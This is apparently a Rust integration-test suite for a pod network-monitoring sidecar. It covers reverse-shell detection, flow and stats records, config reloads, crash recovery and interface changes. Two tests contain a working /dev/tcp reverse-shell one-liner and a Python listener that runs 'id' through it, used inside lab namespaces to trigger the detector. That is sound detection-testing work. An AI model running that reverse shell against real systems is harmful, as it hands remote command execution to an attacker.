//! `vethwatch sidecar` in a network namespace with real programs: it finds a shell while it is used,
//! stays silent beside harmless traffic, and ends in time.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, missing_docs)]

#[path = "support/lab.rs"]
mod lab;
#[path = "support/namespace.rs"]
mod namespace;

use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use lab::{Lab, VETHWATCH, ip, within};

const ATTACKER: &str = "10.213.7.2";

fn watch(lab: &mut Lab, records: &Path) -> usize {
    let records = records.to_str().unwrap().to_owned();
    watch_with(lab, &["--output", &records])
}

/// Nobody reads what a watcher writes on standard output.
fn watch_with(lab: &mut Lab, arguments: &[&str]) -> usize {
    let mut command = within(&lab.pod, VETHWATCH);
    command.args(["sidecar", "--format", "eve"]).args(arguments);
    command.env("POD_NAME", "web-0").env("POD_NAMESPACE", "shop");
    let watcher = lab.start_into(Stdio::piped(), &mut command);
    lab.hears(watcher, "watching eth0");
    watcher
}

/// Waits until it is so, and returns how long it took.
fn until(at_most: Duration, mut is_so: impl FnMut() -> bool) -> Duration {
    let begin = Instant::now();
    while !is_so() {
        assert!(begin.elapsed() < at_most, "not within {at_most:?}");
        thread::sleep(Duration::from_millis(20));
    }
    begin.elapsed()
}

/// Listens, and writes to the caller what is said on standard input.
const LISTEN: &str = "import socket,sys,threading
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)
s.bind(('10.213.7.2',4444)); s.listen(); sys.stderr.write('listening\\n'); sys.stderr.flush()
c,_=s.accept()
def hear():
    while (d:=c.recv(4096)): sys.stderr.write(d.decode(errors='replace')); sys.stderr.flush()
threading.Thread(target=hear,daemon=True).start()
for line in sys.stdin: c.sendall(line.encode())";

/// Serves one small page, ten times.
const SERVE: &str = "import http.server,sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header('Content-Length','6'); self.end_headers()
        self.wfile.write(b'hello\\n')
    def log_message(self,*a): pass
s=http.server.HTTPServer(('10.213.7.2',8080),H); sys.stderr.write('listening\\n'); sys.stderr.flush()
for _ in range(10): s.handle_request()";

const ASK: &str = "import urllib.request,time
for _ in range(5): urllib.request.urlopen('http://10.213.7.2:8080/').read(); time.sleep(0.1)";

/// Sends so many datagrams, each to another port: each is a flow.
const FLOOD: &str = "import socket,sys
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for n in range(int(sys.argv[1])): s.sendto(b'x'*int(sys.argv[2]),('10.213.7.2',10000+n%50000))";

fn of_kind(records: &str, kind: &str) -> Vec<serde_json::Value> {
    let read = records.lines().filter_map(|line| serde_json::from_str(line).ok());
    read.filter(|record: &serde_json::Value| record["event_type"] == kind).collect()
}

fn alerts(records: &Path) -> Vec<serde_json::Value> {
    let text = fs::read_to_string(records).unwrap_or_default();
    text.lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|record| record["event_type"] == "alert")
        .collect()
}

#[test]
#[ignore = "needs root and network namespaces"]
fn finds_a_shell_while_it_is_used() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = watch(&mut lab, &records);
    let (pod, other) = (lab.pod.clone(), lab.other.clone());
    let listener = lab.python(&other, LISTEN);
    let heard = lab.path(&format!("log{listener}"));
    let heard = || fs::read_to_string(&heard).unwrap_or_default();
    until(Duration::from_secs(10), || heard().contains("listening"));
    let shell = format!("exec 3<>/dev/tcp/{ATTACKER}/4444; exec sh <&3 >&3 2>&3");
    lab.start(within(&pod, "bash").args(["-c", &shell]));
    thread::sleep(Duration::from_secs(1));
    let mut typing = lab.children[listener].stdin.take().unwrap();
    typing.write_all(b"id\n").unwrap();
    until(Duration::from_secs(5), || heard().contains("uid="));
    until(Duration::from_secs(2), || !alerts(&records).is_empty());
    let alert = alerts(&records).swap_remove(0);
    assert_eq!(alert["vethwatch"]["detector"], "reverse_shell", "{alert}");
    assert_eq!(alert["kubernetes"]["pod"], "web-0", "{alert}");
    assert_eq!(alert["kubernetes"]["namespace"], "shop", "{alert}");
    assert_eq!(alert["dest_ip"], ATTACKER, "{alert}");
    lab.end(watcher);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn stays_silent_beside_a_client() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = watch(&mut lab, &records);
    let (pod, other) = (lab.pod.clone(), lab.other.clone());
    let server = lab.python(&other, SERVE);
    let log = lab.path(&format!("log{server}"));
    until(Duration::from_secs(10), || {
        fs::read_to_string(&log).is_ok_and(|log| log.contains("listening"))
    });
    let client = lab.python(&pod, ASK);
    assert!(lab.children[client].wait().unwrap().success());
    thread::sleep(Duration::from_millis(500));
    lab.end(watcher);
    assert!(alerts(&records).is_empty());
    // What was still open when it ended is written too.
    let text = fs::read_to_string(&records).unwrap();
    let flows = text.lines().filter(|line| line.contains("\"event_type\":\"flow\"")).count();
    assert!(flows >= 5, "{text}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_reader_that_stopped_holds_up_neither_capture_nor_end() {
    let mut lab = Lab::new();
    let config = lab.path("config.toml");
    fs::write(&config, "[output]\nqueue_bytes = 65536\n").unwrap();
    let watcher = watch_with(&mut lab, &["--config", config.to_str().unwrap()]);
    let pod = lab.pod.clone();
    // Some 2 MB of flow records at the end; nobody reads them.
    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "3000", "10"]));
    assert!(lab.children[flood].wait().unwrap().success());
    let (code, took) = lab.end_by("-TERM", watcher);
    assert!(took < Duration::from_secs(2), "{took:?}");
    let log = lab.log(watcher);
    assert_eq!(code, Some(2), "{log}");
    assert!(log.contains("dropped for want of room in the queue"), "{log}");
    assert!(log.contains("could not be written in time"), "{log}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn says_what_each_interface_passed_and_dropped() {
    let mut lab = Lab::new();
    let (records, config) = (lab.path("records.json"), lab.path("config.toml"));
    fs::write(
        &config,
        "[output]\nstats_interval_s = 1\n\
         [[capture.interfaces]]\nname = \"eth0\"\nbuffer_bytes = 1048576\n",
    )
    .unwrap();
    let paths = [&records, &config].map(|path| path.to_str().unwrap().to_owned());
    let watcher =
        watch_with(&mut lab, &["--output", &paths[0], "--config", &paths[1], "--loopback"]);
    // What comes while it is stopped does not fit into its buffer.
    lab.signal("-STOP", watcher);
    let pod = lab.pod.clone();
    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "4000", "1400"]));
    assert!(lab.children[flood].wait().unwrap().success());
    lab.signal("-CONT", watcher);
    let written = || of_kind(&fs::read_to_string(&records).unwrap_or_default(), "stats");
    let dropped = |stats: &serde_json::Value| {
        let interfaces = stats["vethwatch"]["interfaces"].as_array().unwrap().clone();
        let eth0 = interfaces.iter().find(|interface| interface["name"] == "eth0").unwrap();
        assert!(interfaces.iter().any(|interface| interface["name"] == "lo"), "{stats}");
        [&eth0["passed_frames"], &eth0["kernel_dropped_frames"]].map(|n| n.as_u64().unwrap())
    };
    until(Duration::from_secs(5), || written().last().is_some_and(|last| dropped(last)[1] > 0));
    lab.end(watcher);
    let all = written();
    assert!(all.iter().any(|stats| stats["vethwatch"]["final"] == false));
    let last = all.last().unwrap();
    let [passed, lost] = dropped(last);
    assert!(passed >= 4_000 && lost < passed, "{last}");
    assert_eq!(last["stats"]["capture"]["kernel_drops"], lost, "{last}");
    assert_eq!(last["vethwatch"]["records_dropped"]["flow"], 0, "{last}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn an_interrupt_ends_it_too() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = watch(&mut lab, &records);
    let (code, took) = lab.end_by("-INT", watcher);
    assert_eq!(code, Some(0), "{}", lab.log(watcher));
    assert!(took < Duration::from_secs(2), "{took:?}");
    assert_eq!(of_kind(&fs::read_to_string(&records).unwrap(), "stats").len(), 1);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn says_what_it_lacks_at_the_start() {
    let mut lab = Lab::new();
    let pod = lab.pod.clone();
    let wrong = lab.start(within(&pod, VETHWATCH).args(["sidecar", "--interface", "eth7"]));
    assert_eq!(lab.children[wrong].wait().unwrap().code(), Some(2));
    assert!(lab.log(wrong).contains("eth7: no such interface; there are: "), "{}", lab.log(wrong));
    let bare = ["--bounding-set=-all", "--inh-caps=-all", "--reuid=65534", "--clear-groups"];
    let bare = lab.start(within(&pod, "setpriv").args(bare).args([
        VETHWATCH,
        "sidecar",
        "--interface",
        "eth0",
    ]));
    assert_eq!(lab.children[bare].wait().unwrap().code(), Some(2));
    assert!(lab.log(bare).contains("NET_RAW"), "{}", lab.log(bare));
}

#[test]
#[ignore = "needs root and network namespaces"]
fn reads_its_configuration_again() {
    let mut lab = Lab::new();
    let (records, config) = (lab.path("records.json"), lab.path("config.toml"));
    fs::write(&config, "[output]\nstats_interval_s = 0\n").unwrap();
    let paths = [&records, &config].map(|path| path.to_str().unwrap().to_owned());
    let watcher = watch_with(&mut lab, &["--output", &paths[0], "--config", &paths[1]]);
    fs::write(&config, "[flow]\nflows_mx = 3\n").unwrap();
    lab.signal("-HUP", watcher);
    lab.hears(watcher, "did you mean `flows_max`?; the configuration before it stays in force");
    let allow = "[[allow]]\nreason = \"r\"\nowner = \"o\"\nport = 4444\n";
    let void = "[[allow]]\nreason = \"move\"\nowner = \"o\"\nport = 1\nexpires = 2026-01-01\n";
    fs::write(
        &config,
        format!("{allow}{void}[output]\nstats_interval_s = 1\n[flow]\nflows_max = 9\n"),
    )
    .unwrap();
    lab.signal("-HUP", watcher);
    lab.hears(watcher, "read again; allow-list entries: 2");
    lab.hears(watcher, "entry `port=1` (move) expired on 2026-01-01: it silences nothing");
    lab.hears(watcher, "wait for the next start: flow.flows_max");
    let stats = || of_kind(&fs::read_to_string(&records).unwrap_or_default(), "stats");
    until(Duration::from_secs(5), || !stats().is_empty());
    fs::remove_file(&config).unwrap();
    assert!(Command::new("mkfifo").arg(&config).status().unwrap().success());
    lab.signal("-HUP", watcher);
    lab.hears(watcher, "no plain file and not read again");
    lab.end(watcher);
    let last = stats().pop().unwrap();
    assert_eq!(last["vethwatch"]["allow"][0]["conditions"], "port=4444", "{last}");
}

/// First packet of the one workload in a state file, and its flows to where it went most (count).
fn kept(state: &Path) -> Option<(u64, u64)> {
    let text = fs::read_to_string(state).ok()?;
    let memory: serde_json::Value = serde_json::from_str(text.lines().nth(1)?).ok()?;
    let flows =
        memory["destinations"].as_array()?.iter().filter_map(|one| one[3].as_u64()).max()?;
    Some((memory["first_seen"].as_u64()?, flows))
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_crash_costs_the_last_interval_of_what_is_known_and_no_more() {
    let mut lab = Lab::new();
    let (state, config) = (lab.path("state/web"), lab.path("etc/config.toml"));
    fs::create_dir(state.parent().unwrap()).unwrap();
    fs::create_dir(config.parent().unwrap()).unwrap();
    fs::write(&config, "[state]\ninterval_s = 1\n").unwrap();
    let paths = [&state, &config].map(|path| path.to_str().unwrap().to_owned());
    let arguments = ["--events", "alert", "--state", &paths[0], "--config", &paths[1]];
    let (pod, other) = (lab.pod.clone(), lab.other.clone());
    let watcher = watch_with(&mut lab, &arguments);
    let server = lab.python(&other, SERVE);
    lab.hears(server, "listening");
    let client = lab.python(&pod, ASK);
    assert!(lab.children[client].wait().unwrap().success());
    until(Duration::from_secs(5), || kept(&state).is_some_and(|(_, flows)| flows == 5));
    let (first_seen, _) = kept(&state).unwrap();
    assert_eq!(lab.end_by("-KILL", watcher).0, None);
    // As it would be, had it been killed in the midst of writing.
    fs::write(lab.path("state/web.new"), "{\"format\":\"veth").unwrap();
    let watcher = watch_with(&mut lab, &arguments);
    let client = lab.python(&pod, ASK);
    assert!(lab.children[client].wait().unwrap().success());
    thread::sleep(Duration::from_millis(500));
    lab.end(watcher);
    assert_eq!(kept(&state), Some((first_seen, 10)), "written at the end: {}", lab.log(watcher));
    assert!(!lab.log(watcher).contains("state"), "{}", lab.log(watcher));
    let text = fs::read_to_string(&state).unwrap();
    fs::write(&state, &text[..text.len() - 9]).unwrap();
    let watcher = watch_with(&mut lab, &arguments);
    assert!(lab.log(watcher).contains("its checksum is wrong; it was set aside as"));
    lab.end(watcher);
    let files = fs::read_dir(state.parent().unwrap()).unwrap();
    let mut files: Vec<_> = files.map(|file| file.unwrap().file_name()).collect();
    files.sort();
    let files: Vec<_> = files.iter().map(|name| name.to_str().unwrap()).collect();
    let expected =
        matches!(files[..], ["web", aside, "web.lock"] if aside.starts_with("web.damaged-"));
    assert!(expected, "{files:?}");
    let nowhere = lab.path("nowhere/state").to_str().unwrap().to_owned();
    let failed = lab.start(within(&pod, VETHWATCH).args(["sidecar", "--state", &nowhere]));
    assert_eq!(lab.children[failed].wait().unwrap().code(), Some(2));
    lab.hears(failed, "check the path of the state (--state, state.path)");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn takes_up_an_interface_that_comes_back_and_ends_with_the_last() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = watch(&mut lab, &records);
    let pod = lab.pod.clone();
    ip(&format!("-n {pod} link set eth0 down"));
    lab.hears(watcher, "eth0: is down");
    ip(&format!("-n {pod} link del eth0"));
    lab.hears(watcher, "eth0: no longer watched");
    lab.connect("10.213.7.3/24");
    lab.hears(watcher, "watching eth0 too");
    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "10", "10"]));
    assert!(lab.children[flood].wait().unwrap().success());
    let last = Duration::from_secs(1);
    thread::sleep(last);
    ip(&format!("-n {pod} link del eth0"));
    let begin = Instant::now();
    let code = lab.children[watcher].wait().unwrap().code();
    assert_eq!(code, Some(0), "{}", lab.log(watcher));
    assert!(begin.elapsed() < Duration::from_secs(10), "{:?}", begin.elapsed());
    assert!(lab.log(watcher).contains("it has ended"), "{}", lab.log(watcher));
    let flows = of_kind(&fs::read_to_string(&records).unwrap(), "flow");
    let own = flows
        .iter()
        .filter(|flow| flow["src_ip"] == "10.213.7.3" && flow["kubernetes"]["pod"] == "web-0");
    assert_eq!(own.count(), 10, "the new address is the pod's too: {flows:?}");
}

/// By its second interface: it begins while the pod is watched, and is open when the pod ends.
#[test]
#[ignore = "needs root and network namespaces"]
fn a_shell_ends_with_the_pod_and_is_the_same_in_a_replay() {
    let mut lab = Lab::new();
    let (records, kept) = (lab.path("records.json"), lab.path("kept"));
    let watcher = watch_with(
        &mut lab,
        &["--output", records.to_str().unwrap(), "--write", kept.to_str().unwrap()],
    );
    let (pod, other) = (lab.pod.clone(), lab.other.clone());
    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "2", "10"]));
    lab.children[flood].wait().unwrap();
    ip(&format!("link add eth7 netns {pod} type veth peer name eth7 netns {other}"));
    for (namespace, address) in [(&pod, "10.214.7.1/24"), (&other, "10.214.7.2/24")] {
        ip(&format!("-n {namespace} addr add {address} dev eth7"));
        ip(&format!("-n {namespace} link set eth7 up"));
    }
    lab.hears(watcher, "watching eth7 too");
    let listener = lab.python(&other, &LISTEN.replace(ATTACKER, "10.214.7.2"));
    lab.hears(listener, "listening");
    let shell = "exec 3<>/dev/tcp/10.214.7.2/4444; exec sh <&3 >&3 2>&3";
    lab.start(within(&pod, "bash").args(["-c", shell]));
    thread::sleep(Duration::from_secs(1));
    let mut typing = lab.children[listener].stdin.take().unwrap();
    typing.write_all(b"id\n").unwrap();
    lab.hears(listener, "uid=");
    until(Duration::from_secs(2), || !alerts(&records).is_empty());
    for name in ["eth0", "eth7"] {
        ip(&format!("-n {pod} link del {name}"));
    }
    assert_eq!(lab.children[watcher].wait().unwrap().code(), Some(0), "{}", lab.log(watcher));

    let replayed = lab.path("replayed.json");
    let status = Command::new(VETHWATCH)
        .args(["replay", "--no-progress", "--format", "eve", "--output"])
        .args([&replayed, &kept])
        .status();
    assert!(status.unwrap().success());
    let told = |records: &Path| {
        let told = |alert: serde_json::Value| {
            let (state, uid) = (&alert["vethwatch"]["state"], &alert["vethwatch"]["alert_uid"]);
            format!("{state} {uid} {} {}", alert["container"], alert["kubernetes"])
        };
        alerts(records).into_iter().map(told).collect::<Vec<_>>()
    };
    let live = told(&records);
    assert!(live[0].starts_with("\"open\"") && live[0].contains("web-0"), "{live:?}");
    assert!(live.last().unwrap().starts_with("\"close\""), "{live:?}");
    assert_eq!(told(&replayed), live);
}

#[test]
#[ignore = "needs root and network namespaces"]
fn loopback_is_recorded_and_counted_once() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = watch_with(&mut lab, &["--loopback", "--output", records.to_str().unwrap()]);
    lab.hears(watcher, "loopback gives flow, dns and tls records and no findings");
    let pod = lab.pod.clone();
    let local = FLOOD.replace(ATTACKER, "127.0.0.1").replace("sendto", "setblocking(0);s.sendto");
    let sender = lab.start(within(&pod, "python3").args(["-c", &local, "20", "10"]));
    assert!(lab.children[sender].wait().unwrap().success());
    thread::sleep(Duration::from_millis(300));
    lab.end(watcher);
    let text = fs::read_to_string(&records).unwrap();
    let flows = of_kind(&text, "flow");
    let own = || flows.iter().filter(|flow| flow["in_iface"] == "lo");
    assert_eq!(own().filter(|flow| flow["proto"] == "UDP").count(), 20, "{flows:?}");
    let stats = of_kind(&text, "stats").pop().unwrap();
    let interfaces = stats["vethwatch"]["interfaces"].as_array().unwrap();
    let loopback = interfaces.iter().find(|interface| interface["name"] == "lo").unwrap();
    let packets = |flow: &serde_json::Value| {
        ["pkts_toserver", "pkts_toclient"].map(|way| flow["flow"][way].as_u64().unwrap())
    };
    let all: u64 = own().flat_map(packets).sum();
    assert_eq!(loopback["passed_frames"], all, "{stats}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn an_interface_that_was_named_and_goes_is_no_end_of_the_pod() {
    let mut lab = Lab::new();
    let pod = lab.pod.clone();
    ip(&format!("link add eth1 netns {pod} type veth peer name eth1 netns {}", lab.other));
    ip(&format!("-n {pod} link set eth1 up"));
    let watcher = watch_with(&mut lab, &["--interface", "eth0"]);
    ip(&format!("-n {pod} link del eth0"));
    assert_eq!(lab.children[watcher].wait().unwrap().code(), Some(2), "{}", lab.log(watcher));
    assert!(lab.log(watcher).contains("the pod has other interfaces"), "{}", lab.log(watcher));
}

#[test]
#[ignore = "needs root and network namespaces"]
fn the_last_frames_of_an_interface_that_goes_are_heard() {
    let mut lab = Lab::new();
    let records = lab.path("records.json");
    let watcher = watch(&mut lab, &records);
    let pod = lab.pod.clone();
    let sender = lab.start(within(&pod, "python3").args(["-c", FLOOD, "19", "100"]));
    assert!(lab.children[sender].wait().unwrap().success());
    // Within the time for which the kernel gathers frames.
    ip(&format!("-n {pod} link del eth0"));
    lab.hears(watcher, "no longer watched");
    lab.signal("-TERM", watcher);
    lab.children[watcher].wait().unwrap();
    let text = fs::read_to_string(&records).unwrap();
    let stats = of_kind(&text, "stats").pop().unwrap();
    let passed = &stats["vethwatch"]["interfaces"][0]["passed_frames"];
    assert!(passed.as_u64() >= Some(19), "{stats}");
    assert_eq!(&stats["vethwatch"]["counters"]["frames"], passed, "{stats}");
}

#[test]
#[ignore = "needs root and network namespaces"]
fn a_full_disk_ends_no_capture_and_no_loss_is_silent() {
    let mut lab = Lab::new();
    let disk = lab.path("disk");
    fs::create_dir(&disk).unwrap();
    let mount = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k", "none"])
        .arg(&disk)
        .output()
        .unwrap();
    assert!(mount.status.success(), "{mount:?}");
    let filler = disk.join("filler");
    fs::write(&filler, vec![0; 60 << 10]).unwrap();
    let (records, kept) = (disk.join("records"), disk.join("kept"));
    let watcher = watch_with(
        &mut lab,
        &[
            "--output",
            records.to_str().unwrap(),
            "--write",
            kept.to_str().unwrap(),
            "--events",
            "flow",
        ],
    );
    let other = lab.other.clone();
    let calls = "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n\
        for n in range(200): s.sendto(b'x'*200,('10.213.7.1',2000+n))";
    let sender = lab.python(&other, calls);
    lab.children[sender].wait().unwrap();
    lab.hears(watcher, "--write: packets are not kept for now: No space left");
    fs::remove_file(&filler).unwrap();
    lab.hears(watcher, "--write: packets are kept again; not kept so far:");
    fs::write(&filler, vec![0; 40 << 10]).unwrap();
    let (code, took) = lab.end_by("-TERM", watcher);
    let unmounted = Command::new("umount").args(["-l"]).arg(&disk).status().unwrap();
    assert!(unmounted.success());
    let log = lab.log(watcher);
    assert_eq!(code, Some(2), "{log}");
    assert!(took < Duration::from_secs(2), "{took:?}");
    assert!(log.contains("records cannot be written for now: No space left"), "{log}");
    assert!(log.contains("could not be written in time: ") && log.contains(" flow"), "{log}");
    assert!(log.contains("packets or more were not kept"), "{log}");
}
